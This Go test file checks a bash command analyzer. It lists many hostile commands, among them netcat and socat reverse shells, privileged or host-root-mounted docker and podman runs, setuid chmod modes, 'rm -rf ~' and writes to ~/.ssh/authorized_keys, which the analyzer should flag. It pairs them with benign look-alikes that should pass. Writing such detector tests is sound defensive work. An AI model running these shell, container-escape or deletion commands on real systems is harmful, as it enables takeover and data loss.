package bashcheck

import (
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// TestGivesControl: forms that hand control to somebody else ask even where a
// rule allows the program; forms like them that hand over nothing stay silent.
func TestGivesControl(t *testing.T) {
	a := New(Options{})
	for _, src := range []string{
		"nc -e /bin/sh h 1", "nc -lvpe sh 1", "nc -c sh h 1", "ncat --exec /bin/sh h 1", "ncat --sh-exec=sh h 1", "socat TCP:h:1 EXEC:sh", "socat tcp-l:1 system:sh",
		"sh -i 2>&1 | nc h 1", "cat p | bash -i | nc -l 1 > p",
		"docker run --privileged x", "docker run -it --privileged=true x sh", "docker create --pid=host x", "docker run -v /:/host x", "docker run --volume=/:/host:ro x",
		"docker run --mount type=bind,source=/,target=/h x", "docker run -v /var/run/docker.sock:/var/run/docker.sock x", "podman run --privileged x", "sudo docker run --privileged x",
		"docker run --pid host x", "docker run -itv /:/h x", "docker run -v //:/h x", "docker run -v /./:/h x", "docker run -v /../:/h x", "docker run -v /etc/..:/h x", "docker run -v=/:/h x", "docker run --volume //:/h:ro x", "docker run -v '/:/h' x", "docker run -v /:/h:rw,rslave x",
		"docker run --mount type=bind,source=/,target=/h x", "docker run --mount type=bind,target=/h,source=/ x", "docker run --mount=type=bind,dst=/h,src=/ x", "docker run --mount=type=bind,src=//,dst=/h x", "docker run --mount src=/./,dst=/h,type=bind x", "docker run --mount 'type=bind,\"source=/\",target=/h' x", "docker run --mount type=bind,SOURCE=/,target=/h x", "docker run --mount type=bind,source=/etc/..,target=/h x",
		"docker run --cap-add SYS_ADMIN x", "docker run --cap-add=SYS_ADMIN x", "docker run --cap-add=CAP_SYS_ADMIN x", "docker run --cap-add cap_sys_admin x", "docker run --cap-add sys_admin x", "docker run --cap-add=all x", "docker run --cap-add ALL x", "docker run --cap-add=SYS_MODULE x", "docker run --cap-add=sys_rawio x", "podman run --cap-add=net_raw,sys_admin x", "docker run --cap-add DAC_READ_SEARCH x",
		"docker run --security-opt seccomp=unconfined x", "docker run --security-opt=seccomp=unconfined x", "docker run --security-opt seccomp:unconfined x", "docker run --security-opt apparmor=unconfined x", "docker run --security-opt systempaths=unconfined x",
		"docker run --device /dev/sda x", "docker run --device=/dev/sda:/dev/x x", "docker run --device /dev/nvme0n1 x", "docker run --device /dev/mem x", "docker run --device=/dev/mapper/root x", "docker run --device-cgroup-rule='b *:* rwm' x", "docker run -v /dev:/dev x", "docker run -v /proc:/h x", "docker run -v /run:/run x", "docker run -v /var/run/:/r x", "docker run -v /etc:/h x", "docker run -v /root:/h x", "docker run -v /var/lib/docker:/h x",
		"podman run --pid host x", "podman run -v //:/h x", "podman create --cap-add SYS_ADMIN x", "podman run --mount type=bind,target=/h,source=/ x", "podman container run --pid=host x", "podman run --security-opt seccomp=unconfined x", "nerdctl run --pid host x", "nerdctl run -v /../:/h x", "nerdctl run --device /dev/sda x", "nerdctl run --cap-add=CAP_SYS_ADMIN x",
		"docker compose run -v /:/h web", "docker compose run --volume=//:/h web sh", "docker compose -f x.yml run -v /:/h web", "docker compose run --cap-add SYS_ADMIN web", "docker-compose run -v /:/h web", "docker-compose run --volume /./:/h web", "podman-compose run -v /:/h web", "docker create -v /:/h x", "docker create --cap-add SYS_ADMIN x", "docker container create --pid host x", "docker container run -v /:/h x", "docker container run --privileged x", "docker --context x run --privileged y", "docker exec --privileged c sh", "docker container exec --privileged c sh", "docker compose exec --privileged web sh", "sudo nerdctl run --privileged x",
		"chmod 4755 f", "chmod 06711 f", "chmod u+s f", "chmod +s f", "chmod u=rwxs f", "chmod g-w,u+s f", "chmod -R u+s d", "install -m 4755 a b", "install --mode=u+s a b", "sudo chmod u+s f",
	} {
		r := a.Analyze(src)
		assert.Contains(t, codes(r, Suspicious), CodeGivesControl, src)
		assert.Equal(t, RiskHigh, r.Risk(), src)
	}
	for _, src := range []string{
		"nc -zv h 80", "nc -l 80", "bash build.sh | nc h 1", "socat - TCP:system.example.com:1", "ls | nc h 1",
		"docker run --rm -it x", "docker run -v /srv:/srv x", "docker run -v $PWD:/app x", "docker run --mount type=bind,source=/srv,target=/h x", "docker run --pid=container:x y",
		"docker run -v \"$PWD\":/w x", "docker run --rm -v /data:/data x", "docker run --volume=/home/u/p:/:ro x", "docker run -v vol:/h x", "docker run --mount type=bind,source=/data/,target=/ x", "docker run --mount type=volume,source=v,target=/h x", "docker run --mount type=bind,src=./a/../b,dst=/h x", "docker run --cap-drop ALL --cap-add NET_BIND_SERVICE x", "docker run --cap-add=CHOWN x", "docker run --security-opt no-new-privileges x",
		"docker run --security-opt seccomp=profile.json x", "docker run --device /dev/dri x", "docker run --device=/dev/snd x", "docker run --gpus all x", "docker run --network host x", "docker run --pids-limit 100 x", "docker run --pid container:c x", "podman run -v \"$PWD\":/w:Z x", "nerdctl run -v /data:/data x", "docker create -v /srv:/srv x", "docker compose run -v ./a:/a web", "docker compose run --rm web sh", "docker compose exec web sh", "docker run -w / x", "docker run -w /:/x y", "docker run -e A=/ x ls /", "docker run -v /etc/localtime:/etc/localtime:ro x", "docker run -v /home:/home x",
		"chmod 755 f", "chmod 0644 f", "chmod 2775 d", "chmod g+s d", "chmod u-s f", "chmod +x a+s", "install -m 755 a b", "chmod o+t d",
	} {
		r := a.Analyze(src)
		assert.NotContains(t, codes(r, Notice), CodeGivesControl, src)
	}
}

// TestSetsUser compares with what chmod makes of a mode.
func TestSetsUser(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("it compares with the chmod of GNU coreutils, which only Linux has for sure")
	}
	f := filepath.Join(t.TempDir(), "f")
	require.NoError(t, os.WriteFile(f, nil, 0o755))
	given := 0
	for _, mode := range []string{
		"4755", "04755", "004755", "755", "0755", "2755", "6755", "1755", "7777", "4000", "40", "400", "4", "u+s", "+s", "a+s", "ug+s", "g+s", "o+s", "go+s", "u=s", "u=rwxs", "a=rs",
		"u-s", "-s", "u+x", "u+x,u+s", "u+s,g-s", "g+x,o-w", "u+xs", "u+sx", "u+x-s", "u=4755", "a=4755", "+4000", "=4755", "=755", "-4000", "+2000", "u+r+s", "og+s,u+w",
	} {
		require.NoError(t, os.Chmod(f, 0o755))
		out, err := exec.Command("chmod", "--", mode, f).CombinedOutput()
		if err != nil {
			t.Logf("chmod takes no %s: %s", mode, out)
			continue
		}
		info, err := os.Stat(f)
		require.NoError(t, err)
		set := info.Mode()&os.ModeSetuid != 0
		if set {
			given++
			assert.True(t, setsUser(mode), mode)
		} else if setsUser(mode) {
			// A mode that takes the bit back again may be said to give it.
			assert.Contains(t, []string{"u+s,u-s"}, mode)
		}
	}
	assert.Greater(t, given, 15, "chmod set the bit too seldom for the comparison to say anything")
}

// TestHomeSpelled: without a home directory in the options, what is done to it is
// still found where the text spells it.
func TestHomeSpelled(t *testing.T) {
	plain, known := New(Options{}), New(Options{Home: "/data/u"})
	for src, code := range map[string]string{
		"rm -rf ~": CodeDestructive, "rm -rf ~/": CodeDestructive, "rm -rf ~/*": CodeDestructive, "rm -rf $HOME": CodeDestructive, `rm -rf "$HOME"`: CodeDestructive, `rm -rf "$HOME"/*`: CodeDestructive,
		"rm -rf ${HOME}/.": CodeDestructive, "find ~ -delete": CodeDestructive, "chown -R u ~": CodeDestructive,
		"echo k >> ~/.ssh/authorized_keys": CodePersistence, `echo x >> "$HOME/.bashrc"`: CodePersistence, "tee -a ~/.profile": CodePersistence,
	} {
		assert.Contains(t, codes(plain.Analyze(src), Suspicious), code, src)
		assert.Contains(t, codes(known.Analyze(src), Suspicious), code, src)
	}
	for _, src := range []string{"rm -rf ~/.cache", `rm -rf "$HOME/build"`, "rm -rf ~/a/*", "find ~ -name '*.o' -delete", "echo x > ~/notes.txt", "rm -rf ~/*.log", `rm -rf "$HOMEX"`, "rm -rf $HOME_OLD/x"} {
		assert.NotContains(t, codes(plain.Analyze(src), Suspicious), CodeDestructive, src)
		assert.NotContains(t, codes(plain.Analyze(src), Suspicious), CodePersistence, src)
	}
}
